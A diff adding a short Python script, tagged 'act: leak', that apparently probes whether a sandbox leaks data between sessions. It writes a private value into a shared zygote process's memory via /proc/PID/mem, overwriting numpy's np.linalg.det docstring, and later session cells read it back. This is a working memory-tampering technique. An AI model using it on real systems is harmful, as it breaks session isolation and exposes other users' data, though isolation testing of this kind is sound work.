@@ -1,0 +1,30 @@
+# Copyright 2026 The spatialclaw_ros authors
+#
+# Licensed under the Apache License, Version 2.0 (the "License");
+# you may not use this file except in compliance with the License.
+# You may obtain a copy of the License at
+#
+#     http://www.apache.org/licenses/LICENSE-2.0
+#
+# Unless required by applicable law or agreed to in writing, software
+# distributed under the License is distributed on an "AS IS" BASIS,
+# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+# See the License for the specific language governing permissions and
+# limitations under the License.
+
+"""Write into the zygote's memory through its file in /proc."""
+
+# act: leak
+import sys
+
+text = np.linalg.det.__doc__
+address = id(text) + sys.getsizeof(text) - len(text) - 1
+with open(f'/proc/{ZYGOTE_PID}/mem', 'r+b', buffering=0) as memory:
+    memory.seek(address)
+    memory.write(PRIVATE.encode())
+# %% next session
+print(np.linalg.det.__doc__[:40])
+# %% next session
+print(np.linalg.det.__doc__[:40])
+# %% next session
+print(np.linalg.det.__doc__[:40])
